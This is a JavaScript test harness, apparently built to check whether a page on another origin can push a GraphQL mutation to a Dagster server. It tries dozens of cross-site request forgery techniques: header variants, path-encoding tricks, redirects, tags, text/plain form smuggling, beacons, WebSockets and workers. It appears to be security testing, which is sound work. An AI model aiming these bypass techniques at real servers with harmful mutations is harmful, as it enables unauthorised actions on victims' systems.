// What a page of another origin can send to Dagster's server. Every attempt carries the same
// mutation, with its own name as the description of the event that it would leave.

const ASSET = "unrelated_number";
const ACCEPTS = [
  ["TEXT/HTML"], ["text/html"], ["Text/Html;q=1"], ["*/*"], ["text/html", "TEXT/HTML"],
  ["application/json"], ["image/avif,image/webp,*/*"], ["text/HTML, text/plain"],
];
const PATHS = [
  "/graphql/", "//graphql", "///graphql", "/%67raphql", "/%2567raphql", "/graphql%0A",
  "/graphql%0D", "/graphql%00", "/graphql%20", "/graphql%2F", "/graphql.", "/graphql..",
  "/GRAPHQL", "/GraphQL", "/graphql;x", "/x/../graphql", "/x/%2e%2e/graphql", "/./graphql",
  "/graphql#", "\\graphql", "/assets/..%2fgraphql", "/graphql%E2%80%8B",
];
const TYPES = [
  "text/plain", "text/plain; application/json", "application/x-www-form-urlencoded",
  "application/x-www-form-urlencoded; application/json", "text/plain; x=application/graphql",
  "multipart/form-data; boundary=application/json", "application/json", "application/graphql",
  "Application/JSON", "",
];
const SECONDS = 10;

function mutation(name) {
  const event = `eventType: ASSET_MATERIALIZATION, assetKey: {path: ["${ASSET}"]}`;
  const params = `${event}, description: ${JSON.stringify(name)}`;
  return `mutation { reportRunlessAssetEvents(eventParams: {${params}}) { __typename } }`;
}

const query = (name) => `query=${encodeURIComponent(mutation(name))}`;
const body = (name) => JSON.stringify({ query: mutation(name) });

function settled(start) {
  const late = new Promise((resolve) => setTimeout(resolve, SECONDS * 1000));
  return Promise.race([late, Promise.resolve().then(start).catch(() => {})]);
}

function loaded(element) {
  return new Promise((resolve) => {
    element.onload = element.onerror = element.onloadeddata = resolve;
    document.body.append(element);
  });
}

function tag(name, attributes) {
  return Object.assign(document.createElement(name), attributes);
}

function headersOf(name, values) {
  const headers = new Headers();
  values.forEach((value) => headers.append(name, value));
  return headers;
}

function* fetches(server) {
  const graphql = `${server}/graphql`;
  for (const mode of ["no-cors", "cors"]) {
    for (const method of ["GET", "HEAD"])
      for (const accept of ACCEPTS)
        yield [`${method} ${mode} Accept ${accept.join(" and ")}`, (name) =>
          fetch(`${graphql}?${query(name)}`, { mode, method, headers: headersOf("Accept", accept) })];
    for (const type of TYPES) {
      const options = { mode, method: "POST", headers: headersOf("Content-Type", type ? [type] : []) };
      yield [`POST ${mode} ${type}`, (name) => fetch(graphql, { ...options, body: body(name) })];
      yield [`POST ${mode} ${type}, query in the address`, (name) =>
        fetch(`${graphql}?${query(name)}`, { ...options, body: "{}" })];
      yield [`POST ${mode} ${type}, the bare document`, (name) =>
        fetch(graphql, { ...options, body: mutation(name) })];
    }
    yield [`POST ${mode} without a body`, (name) =>
      fetch(`${graphql}?${query(name)}`, { mode, method: "POST" })];
    yield [`POST ${mode} without a referrer`, (name) =>
      fetch(`${graphql}?${query(name)}`, { mode, method: "POST", referrerPolicy: "no-referrer" })];
    yield [`POST ${mode} of a report`, (name) =>
      fetch(`${server}/report_asset_materialization/${ASSET}?description=${encodeURIComponent(name)}`,
        { mode, method: "POST" })];
    yield [`POST ${mode} of an observation`, (name) =>
      fetch(`${server}/report_asset_observation/${ASSET}?description=${encodeURIComponent(name)}`,
        { mode, method: "POST" })];
    for (const method of ["GET", "POST"]) {
      yield [`${method} ${mode} keepalive`, (name) =>
        fetch(`${graphql}?${query(name)}`, { mode, method, keepalive: true })];
      yield [`${method} ${mode} with credentials`, (name) =>
        fetch(`${graphql}?${query(name)}`, { mode, method, credentials: "include" })];
      for (const status of [301, 302, 307, 308])
        yield [`${method} ${mode} redirected by ${status}`, (name) =>
          fetch(`/redirect?status=${status}&to=${encodeURIComponent(`${graphql}?${query(name)}`)}`,
            { mode, method })];
    }
  }
  for (const method of ["PUT", "PATCH", "DELETE", "OPTIONS"])
    yield [`${method} cors`, (name) => fetch(`${graphql}?${query(name)}`, { method, mode: "cors" })];
}

function* addresses(server) {
  for (const path of PATHS)
    for (const accept of ["*/*", "TEXT/HTML"])
      yield [`path ${path} Accept ${accept}`, (name) =>
        fetch(`${server}${path}?${query(name)}`, { mode: "no-cors", headers: { Accept: accept } })];
  for (const start of ["query=", "query=%7Bversion%7D&", "op=x&", "%71uery=x&", "&&", ";", "?"])
    yield [`query after ${start}`, (name) =>
      fetch(`${server}/graphql?${start}${query(name)}`, { mode: "no-cors" })];
  yield ["query before another", (name) =>
    fetch(`${server}/graphql?${query(name)}&query=%7Bversion%7D`, { mode: "no-cors" })];
  yield ["encoded key", (name) =>
    fetch(`${server}/graphql?${query(name).replace("query", "%71%75ery")}`, { mode: "no-cors" })];
}

function* tags(server) {
  const address = (name) => `${server}/graphql?${query(name)}`;
  for (const kind of ["img", "script", "iframe", "embed", "video", "audio"])
    yield [`tag ${kind}`, (name) => loaded(tag(kind, { src: address(name) }))];
  yield ["tag img, path with a line feed", (name) =>
    loaded(tag("img", { src: `${server}/graphql%0A?${query(name)}` }))];
  yield ["tag object", (name) => loaded(tag("object", { data: address(name) }))];
  yield ["tag input", (name) => loaded(tag("input", { type: "image", src: address(name) }))];
  for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"])
    yield [`tag link ${rel}`, (name) =>
      Promise.race([loaded(tag("link", { rel, as: "script", href: address(name) })), pause(200)])];
  yield ["style import", (name) =>
    loaded(tag("style", { textContent: `@import url("${address(name)}");` }))];
  yield ["background picture", (name) => {
    const block = tag("div", { textContent: "x" });
    block.style.backgroundImage = `url(${JSON.stringify(address(name))})`;
    document.body.append(block);
    return pause(200);
  }];
  yield ["prefetch by rules", (name) => {
    const rules = { prefetch: [{ source: "list", urls: [address(name)] }] };
    document.body.append(tag("script", { type: "speculationrules", textContent: JSON.stringify(rules) }));
    return pause(200);
  }];
  yield ["ping of a link", (name) => {
    const link = tag("a", { href: "#", ping: address(name) });
    document.body.append(link);
    link.click();
    return pause(200);
  }];
  yield ["frame without an origin", (name) => {
    const script = `fetch(${JSON.stringify(address(name))}, {mode: "no-cors", method: "POST"})`;
    const srcdoc = `<script>${script}</scr` + "ipt>";
    return loaded(tag("iframe", { sandbox: "allow-scripts", srcdoc })).then(() => pause(200));
  }];
}

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

function* forms(server) {
  const fields = (name) => ({
    "application/x-www-form-urlencoded": ["query", mutation(name)],
    "multipart/form-data": ["query", mutation(name)],
    // With "=" between name and value, the body is a JSON object.
    "text/plain": [body(name).replace(/}$/, ', "x": "'), '"}'],
  });
  for (const enctype of Object.keys(fields("")))
    for (const method of ["GET", "POST"])
      for (const inAddress of [false, true])
        yield [`form ${method} ${enctype}${inAddress ? ", query in the address" : ""}`, (name) => {
          const frame = tag("iframe", { name });
          document.body.append(frame);
          const [key, value] = fields(name)[enctype];
          const action = `${server}/graphql${inAddress ? `?${query(name)}` : ""}`;
          const form = tag("form", { action, method, enctype, target: name });
          form.append(tag("textarea", { name: key, value }));
          document.body.append(form);
          const answered = new Promise((resolve) => { frame.onload = resolve; });
          form.submit();
          return answered;
        }];
}

function* others(server) {
  const graphql = `${server}/graphql`;
  for (const data of ["", "blob", "json", "form"])
    yield [`beacon ${data}`, (name) => {
      const blob = (type) => new Blob([body(name)], { type });
      const payload = { "": body(name), blob: blob("text/plain;application/json"),
        json: blob("application/json"), form: new URLSearchParams({ query: mutation(name) }) }[data];
      navigator.sendBeacon(`${graphql}?${query(name)}`, payload);
    }];
  for (const method of ["GET", "POST"])
    yield [`XMLHttpRequest ${method}`, (name) => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open(method, `${graphql}?${query(name)}`);
      request.setRequestHeader("Accept", "TEXT/HTML");
      request.send(method === "POST" ? body(name) : null);
    })];
  yield ["EventSource", (name) => new Promise((resolve) => {
    const source = new EventSource(`${graphql}?${query(name)}`);
    source.onerror = () => { source.close(); resolve(); };
  })];
  yield ["WebSocket", (name) => new Promise((resolve) => {
    const socket = new WebSocket(`${graphql.replace("http", "ws")}?${query(name)}`, "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ type: "start", id: "1", payload: { query: mutation(name) } }));
    };
    socket.onmessage = (message) => { if (JSON.parse(message.data).id) socket.close(); };
    socket.onclose = resolve;
  })];
  yield ["script of a worker", (name) => new Promise((resolve) => {
    const code = `try { importScripts(${JSON.stringify(`${graphql}?${query(name)}`)}) } catch {} postMessage(0)`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = worker.onerror = resolve;
  })];
}

async function attack(server) {
  const attempts = [fetches, addresses, tags, forms, others].flatMap((kind) => [...kind(server)]);
  const names = attempts.map(([what]) => `${what} from ${location.origin}`);
  await Promise.all(attempts.map(([, start], i) => settled(() => start(names[i]))));
  return names;
}

function followLink(server) {
  location = `${server}/graphql?${query(`link from ${location.origin}`)}`;
}

function submitForm(server) {
  const name = `form from ${location.origin}`;
  const action = `${server}/graphql?${query(name)}`;
  const form = tag("form", { action, method: "POST", enctype: "text/plain" });
  form.append(tag("textarea", { name: body(name).replace(/}$/, ', "x": "'), value: '"}' }));
  document.body.append(form);
  form.submit();
}

function report(name) {
  const headers = { "Content-Type": "application/json" };
  return fetch("/graphql", { method: "POST", headers, body: body(name) });
}
